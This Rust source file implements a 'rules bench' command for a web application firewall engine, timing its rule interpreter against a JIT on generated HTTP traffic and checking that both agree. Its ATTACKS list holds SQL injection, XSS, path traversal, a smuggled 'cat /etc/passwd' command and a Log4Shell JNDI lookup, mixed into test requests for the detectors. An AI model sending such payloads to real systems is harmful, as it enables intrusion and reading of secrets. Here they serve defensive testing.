//! `rampart rules bench FILE...`: the interpreter against the JIT on
//! generated traffic.
//!
//! Requests are generated from the rules themselves (their hosts, methods
//! and endpoint templates, with parameters, JSON bodies, cookies, client
//! addresses and a share of attacks so that detector conditions have
//! findings to read) plus traffic that no rule's scope covers. Each request
//! is decoded and inspected once by the engine's built-in plugins; only
//! the rules' evaluation is timed, both phases, on fresh counters per
//! round. The back-ends must agree on every request (the rules matched and
//! the actions fired); a disagreement is a bug and exits 1.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Result;
use rampart_core::rules::InspectionView;
use rampart_core::{Backend, Engine, EngineConfig, Inspection};
use rampart_dsl::ir::RulePhase;
use rampart_dsl::path::TSeg;
use rampart_dsl::{Evaluator, MemoryCounters, Outcome, Program};
use rampart_types::{Header, Request};

#[derive(clap::Args, Debug)]
pub struct BenchArgs {
    /// The rule files (compiled together, with their includes).
    #[arg(required_unless_present = "synthetic")]
    files: Vec<PathBuf>,
    /// Bench N generated rules instead of files (the criterion bench's
    /// rule set).
    #[arg(long, value_name = "N", conflicts_with = "files")]
    synthetic: Option<usize>,
    /// With --synthetic: the number of endpoint templates the rules are
    /// spread over (0: every rule applies to every request).
    #[arg(long, default_value_t = 0)]
    endpoints: usize,
    /// Requests generated.
    #[arg(long, default_value_t = 2000)]
    requests: usize,
    /// Timed rounds over all requests per back-end (the best is reported).
    #[arg(long, default_value_t = 5)]
    rounds: usize,
    /// Seed of the generator.
    #[arg(long, default_value_t = 1)]
    seed: u64,
}

/// xorshift64*: deterministic, good enough to pick from lists.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

const WORDS: &[&str] = &[
    "shoes",
    "red",
    "blue jacket",
    "42",
    "1",
    "2024-05-01",
    "ann@example.com",
    "true",
    "550e8400-e29b-41d4-a716-446655440000",
    "Paris",
    "it's fine",
    "a+b",
    "100.50",
];

const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT password FROM users--",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    ";cat /etc/passwd",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
];

const PATHS: &[&str] = &[
    "/",
    "/search",
    "/static/app.js",
    "/api/items/17",
    "/account",
    "/blog/2024/hello",
];

fn path_of(segs: &[TSeg], rng: &mut Rng) -> String {
    let mut p = String::new();
    for s in segs {
        p.push('/');
        match s {
            TSeg::Lit(l) => p.push_str(&String::from_utf8_lossy(l)),
            TSeg::Param(_) => p.push_str(&(rng.below(50) + 1).to_string()),
            TSeg::Star => p.push_str("item"),
            TSeg::Rest => p.push_str("a/b"),
        }
    }
    if p.is_empty() {
        p.push('/');
    }
    p
}

fn encode(v: &str) -> String {
    let mut out = String::new();
    for b in v.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// One request: in a rule's scope 70% of the time, 10% with an attack.
fn request(prog: &Program, rng: &mut Rng) -> Request {
    let rule = (rng.below(10) < 7 && !prog.rules.is_empty())
        .then(|| &prog.rules[rng.below(prog.rules.len())]);
    let scope = rule.map(|r| &r.scope);
    let path = match scope.filter(|s| !s.endpoints.is_empty()) {
        Some(s) => path_of(&rng.pick(&s.endpoints).segs, rng),
        None => rng.pick(PATHS).to_string(),
    };
    let method = match scope.filter(|s| !s.methods.is_empty()) {
        Some(s) => rng.pick(&s.methods).clone(),
        None => ["GET", "GET", "GET", "POST"][rng.below(4)].to_string(),
    };
    let host = scope
        .and_then(|s| s.hosts.first())
        .map(|g| g.as_str().replace(['*', '?'], "w"))
        .unwrap_or_else(|| "app.example".to_string());
    let value = |rng: &mut Rng| -> &'static str {
        if rng.below(10) == 0 {
            ATTACKS[rng.below(ATTACKS.len())]
        } else {
            WORDS[rng.below(WORDS.len())]
        }
    };
    let mut target = path;
    let params = rng.below(4);
    for i in 0..params {
        let name = ["q", "page", "id", "sort", "filter"][rng.below(5)];
        target.push(if i == 0 { '?' } else { '&' });
        target.push_str(name);
        target.push('=');
        target.push_str(&encode(value(rng)));
    }
    let mut r = Request::new(&method, &target);
    let mut header = |n: &str, v: String| {
        r.headers.push(Header {
            name: n.as_bytes().to_vec(),
            value: v.into_bytes(),
        })
    };
    header("Host", host);
    header(
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0".into(),
    );
    header("Cookie", format!("session=s{}; theme=dark", rng.below(40)));
    if method == "POST" || method == "PUT" {
        let body = serde_json::json!({
            "user": {"name": value(rng), "id": rng.below(1000)},
            "items": [{"qty": rng.below(5) + 1}, {"qty": rng.below(200)}],
        })
        .to_string();
        header("Content-Type", "application/json".into());
        header("Content-Length", body.len().to_string());
        r.body = body.into_bytes();
    }
    r.client_ip = Some(std::net::IpAddr::from([198, 51, 100, rng.below(50) as u8]));
    r
}

/// What one evaluation said, for comparing back-ends: the rules matched,
/// the actions fired, the rules suppressed.
type Said = (Vec<u32>, Vec<(u32, u16)>, Vec<u32>);

fn digest(out: &Outcome) -> Said {
    (
        out.matched.clone(),
        out.fired.iter().map(|f| (f.rule, f.action)).collect(),
        out.suppressed.clone(),
    )
}

struct Run {
    name: &'static str,
    compile: Duration,
    best: Duration,
    evaluated: u64,
    matched: u64,
    outcomes: Vec<Said>,
}

fn time_backend(
    backend: Backend,
    prog: &Program,
    traffic: &[(Inspection, Option<std::net::IpAddr>)],
    rounds: usize,
) -> Result<Run> {
    let t = Instant::now();
    let eval: Arc<dyn Evaluator> = backend
        .compile(prog.clone())
        .map_err(|e| anyhow::anyhow!("{}: {e}", backend.name()))?;
    let compile = t.elapsed();
    let mut best = Duration::MAX;
    let mut outcomes = Vec::new();
    let (mut evaluated, mut matched) = (0u64, 0u64);
    let ips: Vec<Option<String>> = traffic
        .iter()
        .map(|(_, ip)| ip.map(|a| a.to_string()))
        .collect();
    // What the engine derives once per request, outside the timed loop.
    let sessions: Vec<Option<&[u8]>> = traffic
        .iter()
        .map(|(ins, _)| rampart_core::rules::session_of(&ins.tree))
        .collect();
    let mut out = Outcome::default();
    for round in 0..rounds.max(1) {
        let mut counters = MemoryCounters::default();
        let start = Instant::now();
        for (i, (ins, _)) in traffic.iter().enumerate() {
            let session = sessions[i];
            let mut view = InspectionView {
                tree: &ins.tree,
                findings: &ins.findings,
                client_ip: ips[i].as_deref().map(str::as_bytes),
                session,
                status: None,
            };
            let now = i as u64 * 50;
            eval.evaluate(&view, RulePhase::Request, &mut counters, now, &mut out);
            if round == 0 {
                evaluated += u64::from(out.evaluated);
                matched += u64::from(!out.matched.is_empty());
                outcomes.push(digest(&out));
            }
            view.status = Some(if i % 5 == 0 { 401 } else { 200 });
            eval.evaluate(&view, RulePhase::Response, &mut counters, now, &mut out);
            if round == 0 {
                evaluated += u64::from(out.evaluated);
                outcomes.push(digest(&out));
            }
        }
        best = best.min(start.elapsed());
    }
    Ok(Run {
        name: backend.name(),
        compile,
        best,
        evaluated,
        matched,
        outcomes,
    })
}

pub fn run(a: &BenchArgs) -> Result<i32> {
    let compiled = match a.synthetic {
        Some(n) => rampart_dsl::compile_str(
            "synthetic.rules",
            &rampart_dsl::synthetic::rules(n, a.endpoints),
        ),
        None => rampart_dsl::compile_files(&a.files),
    };
    let prog = match compiled {
        Ok(p) => p,
        Err(d) => {
            eprint!("{}", d.render());
            eprintln!("the rules do not compile");
            return Ok(1);
        }
    };
    let mut rng = Rng(a.seed.max(1));
    let reg = {
        let mut r = rampart_core::Registry::new();
        rampart_builtin_plugins::register(&mut r)?;
        r
    };
    let engine = Engine::new(&reg, EngineConfig::default())?;
    let traffic: Vec<(Inspection, Option<std::net::IpAddr>)> = (0..a.requests.max(1))
        .map(|_| {
            let r = request(&prog, &mut rng);
            (engine.inspect(&r), r.client_ip)
        })
        .collect();
    let mut backends = vec![Backend::Interpreter];
    if Backend::default() != Backend::Interpreter {
        backends.push(Backend::default());
    }
    let runs = backends
        .into_iter()
        .map(|b| time_backend(b, &prog, &traffic, a.rounds))
        .collect::<Result<Vec<_>>>()?;
    let n = traffic.len() as f64;
    println!(
        "{} rules, {} generated requests (both phases), best of {} rounds",
        prog.rules.len(),
        traffic.len(),
        a.rounds.max(1)
    );
    println!(
        "{:<12} {:>12} {:>14} {:>14} {:>16} {:>10}",
        "back-end", "compile", "per request", "requests/s", "rules evaluated", "matched"
    );
    for r in &runs {
        let per = r.best.as_secs_f64() / n;
        println!(
            "{:<12} {:>10.1}ms {:>12.2}us {:>14.0} {:>16.1} {:>9.1}%",
            r.name,
            r.compile.as_secs_f64() * 1e3,
            per * 1e6,
            1.0 / per,
            r.evaluated as f64 / n,
            r.matched as f64 * 100.0 / n
        );
    }
    if let [interp, other] = runs.as_slice() {
        println!(
            "{} is {:.1}x the interpreter's speed",
            other.name,
            interp.best.as_secs_f64() / other.best.as_secs_f64()
        );
        let differ = interp
            .outcomes
            .iter()
            .zip(&other.outcomes)
            .filter(|(x, y)| x != y)
            .count();
        if differ > 0 {
            println!(
                "the back-ends disagree on {differ} of {} evaluations",
                interp.outcomes.len()
            );
            return Ok(1);
        }
        println!("the back-ends agree on every request");
    } else {
        println!("(this build has no JIT: the `jit` feature is off)");
    }
    Ok(0)
}
